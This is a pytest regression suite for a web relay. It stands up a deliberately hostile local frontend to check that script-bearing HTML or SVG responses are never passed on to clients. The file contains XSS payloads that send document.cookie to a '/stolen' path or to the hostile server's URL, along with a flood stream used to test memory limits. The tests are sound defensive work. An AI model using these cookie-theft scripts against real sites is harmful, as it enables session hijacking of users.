# ruff: noqa: F811 (pytest fixtures are imported by name and injected as arguments)
"""A graph's frontend is not trusted: any operator chooses its image. Issue #42, finding 1: a
frontend answering ``text/html`` (or SVG) with a script had it run on the control plane's
origin as whoever opened ``/api/playground/<graph>/v1/models`` (session cookie accepted, the
frontend's Content-Type relayed, no CSP and no frame protection on the bare ASGI path).

Here a real hostile frontend (an HTTP server on a loopback port, registered as a graph's
frontend the way the relay tests register Dynamo's) answers every path with a script; the
relay must never hand it to a client as a document, through either entry point."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from tests.playground_fixtures import (  # noqa: F401
    CHAT,
    _fresh_limits,
    asgi_server,
    chat_body,
    free_port,
    make_graph,
    routed_server,
    tokens,
)

pytestmark = pytest.mark.django_db(transaction=True)

MODELS = "/api/playground/{graph}/v1/models"
SCRIPT = b"<html><body><script>fetch('/stolen?' + document.cookie)</script>hostile</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/stolen")</script></svg>'
CSP = "default-src 'none'; sandbox; frame-ancestors 'none'"


class HostileFrontend:
    """Answers every request with ``content_type`` and ``body`` (status 200), and records the
    paths it was asked for (a script that ran reports to ``/stolen``)."""

    def __init__(self, content_type: str = "text/html", body: bytes = SCRIPT) -> None:
        self.content_type, self.body, self.seen = content_type, body, []
        frontend = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                frontend.seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", frontend.content_type)
                self.send_header("Content-Length", str(len(frontend.body)))
                self.end_headers()
                self.wfile.write(frontend.body)

            do_GET = do_POST = _answer

            def log_message(self, *args) -> None:
                pass

        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> HostileFrontend:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hostile():
    with HostileFrontend() as frontend:
        yield frontend


def _hardened(reply: httpx.Response) -> None:
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.headers["content-security-policy"] == CSP
    assert reply.headers["x-frame-options"] == "DENY"
    media = reply.headers["content-type"].split(";")[0].strip()
    assert media in ("application/json", "text/event-stream"), reply.headers["content-type"]


@pytest.mark.parametrize("content_type,body", [("text/html", SCRIPT), ("image/svg+xml", SVG),
                                               ("text/html; charset=utf-8", SCRIPT), ("", SCRIPT),
                                               ("text/event-streamx/html", SCRIPT)],
                         ids=["html", "svg", "html-charset", "no-type", "not-sse"])
def test_a_frontend_answering_a_document_is_never_relayed_as_one(asgi_server, users, tokens, content_type, body):
    with HostileFrontend(content_type, body) as frontend:
        make_graph("evil", "m", frontend.url, user=users["admin"])
        auth = {"Authorization": f"Token {tokens['admin']}"}
        with httpx.Client(timeout=10) as client:
            listed = client.get(asgi_server.url + MODELS.format(graph="evil"), headers=auth)
            chat = client.post(asgi_server.url + CHAT.format(graph="evil"), headers=auth,
                               json=chat_body("m", stream=False))
            streamed = client.post(asgi_server.url + CHAT.format(graph="evil"), headers=auth,
                                   json=chat_body("m", stream=True))
    assert frontend.seen  # the relay did ask the hostile frontend
    for reply in (listed, chat, streamed):
        _hardened(reply)
        assert b"<script" not in reply.content
        assert reply.status_code == 502, reply.text
        assert "not an answer an OpenAI endpoint gives" in reply.json()["error"]["message"]


def test_a_json_answer_and_a_stream_still_pass_with_the_security_headers(asgi_server, users, tokens):
    models = json.dumps({"object": "list", "data": [{"id": "m", "object": "model"}]}).encode()
    with HostileFrontend("application/json", models) as frontend:
        make_graph("plain", "m", frontend.url, user=users["admin"])
        with httpx.Client(timeout=10) as client:
            listed = client.get(asgi_server.url + MODELS.format(graph="plain"),
                                headers={"Authorization": f"Bearer {tokens['operator']}"})
    assert listed.status_code == 200 and listed.json()["data"][0]["id"] == "m"
    _hardened(listed)
    stream = b'data: {"choices": []}\n\ndata: [DONE]\n\n'
    with HostileFrontend("text/event-stream", stream) as frontend:
        make_graph("sse", "m", frontend.url, user=users["admin"])
        with httpx.Client(timeout=10) as client:
            streamed = client.post(asgi_server.url + CHAT.format(graph="sse"),
                                   headers={"Authorization": f"Token {tokens['operator']}"}, json=chat_body("m"))
    assert streamed.status_code == 200 and streamed.content == stream
    _hardened(streamed)


def test_a_session_cookie_alone_does_not_open_the_model_list(asgi_server, users, hostile):
    """What a top-level navigation (a link, the SSO ``next=``) sends: the session cookie and
    nothing else. The chat page never GETs the model list; only its CSRF-checked POSTs use the
    session. Refused before the frontend is asked."""
    from django.conf import settings
    from django.test import Client

    from tests.conftest import PASSWORD

    make_graph("evil", "m", hostile.url, user=users["admin"])
    browser = Client()
    assert browser.login(username="admin", password=PASSWORD)
    cookies = {settings.SESSION_COOKIE_NAME: browser.cookies[settings.SESSION_COOKIE_NAME].value}
    with httpx.Client(timeout=10, cookies=cookies) as client:
        reply = client.get(asgi_server.url + MODELS.format(graph="evil"),
                           headers={"Accept": "text/html", "Sec-Fetch-Mode": "navigate"})
    assert reply.status_code == 401, reply.text
    assert "Authorization: Token" in reply.json()["error"]["message"]
    _hardened(reply)
    assert hostile.seen == []


def test_every_error_of_the_bare_endpoint_carries_the_security_headers(asgi_server):
    with httpx.Client(timeout=10) as client:
        replies = [client.get(asgi_server.url + MODELS.format(graph="nope")),
                   client.post(asgi_server.url + CHAT.format(graph="nope"), content=b"x" * (9 << 20))]
        if asgi_server.app.endswith(":application"):  # the bare path's own 404 for the rest of the API
            replies.append(client.get(asgi_server.url + "/api/playground/nope/v1/embeddings"))
    for reply in replies:
        assert reply.status_code in (401, 404, 413), reply.text
        _hardened(reply)


@pytest.mark.browser
def test_an_admin_who_opens_a_hostile_graphs_model_list_in_chromium_runs_no_script(asgi_server, users, hostile,
                                                                                   monkeypatch):
    """The attack as found: an admin, signed in, follows a link to the graph's model list; the
    frontend's page reports to the frontend (a cross-origin beacon with the admin's cookies)
    when its script runs."""
    from django.conf import settings
    from django.test import Client
    from playwright.sync_api import sync_playwright

    from tests.conftest import PASSWORD
    from tests.live_fixtures import CHROMIUM, CHROMIUM_ARGS

    hostile.body = (b"<html><body><script>new Image().src = '" + hostile.url.encode()
                    + b"/stolen?' + encodeURIComponent(document.cookie);</script>hostile</body></html>")
    make_graph("evil", "m", hostile.url, user=users["admin"])
    client = Client()
    assert client.login(username="admin", password=PASSWORD)
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context()
            context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "url": asgi_server.url,
                                  "value": client.cookies[settings.SESSION_COOKIE_NAME].value}])
            page = context.new_page()
            page.goto(asgi_server.url + MODELS.format(graph="evil"))
            page.wait_for_timeout(500)  # time for a beacon to leave
            shown = page.content()
        finally:
            browser.close()
    assert not any(path.startswith("/stolen") for path in hostile.seen), hostile.seen
    assert "<script" not in shown


def _http_1_0(port: int, path: str, key: str, body: bytes) -> tuple[str, dict, bytes]:
    import socket

    head = (f"POST {path} HTTP/1.0\r\nHost: 127.0.0.1\r\nAuthorization: Token {key}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n").encode()
    raw = b""
    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
        sock.sendall(head + body)
        while data := sock.recv(1 << 20):
            raw += data
    status_and_headers, _, content = raw.partition(b"\r\n\r\n")
    lines = status_and_headers.decode().split("\r\n")
    return lines[0].split()[1], {k.strip().lower(): v.strip() for k, _, v in
                                 (line.partition(":") for line in lines[1:])}, content


def test_an_endless_stream_to_an_http_1_0_client_is_bounded_not_buffered_whole(routed_server, users, tokens):
    """The project's entry point gives an HTTP/1.0 client a stream whole (no chunked framing):
    a frontend that streams 24 MB held all of it in the relay's memory (600 MB seen). Bounded
    now: a 502 past gateway.MAX_ANSWER_BODY. (Django's views stream it, leaving the framing to
    the server: nothing held there.)"""
    from endpoint import gateway

    event = b'data: {"choices":[{"delta":{"content":"' + b"x" * 4000 + b'"}}]}\n\n'
    endless = event * (3 * gateway.MAX_ANSWER_BODY // len(event))
    with HostileFrontend("text/event-stream", endless) as frontend:
        make_graph("flood", "m", frontend.url, user=users["admin"])
        status, headers, content = _http_1_0(routed_server.port, CHAT.format(graph="flood"), tokens["operator"],
                                             json.dumps(chat_body("m", stream=True)).encode())
    assert frontend.seen
    assert status == "502", content[:300]
    assert len(content) < gateway.MAX_ANSWER_BODY  # the error, not the flood
    error = json.loads(content)["error"]
    assert error["type"] == "upstream_too_large" and "HTTP/1.1" in error["message"]
    assert int(headers["content-length"]) == len(content)
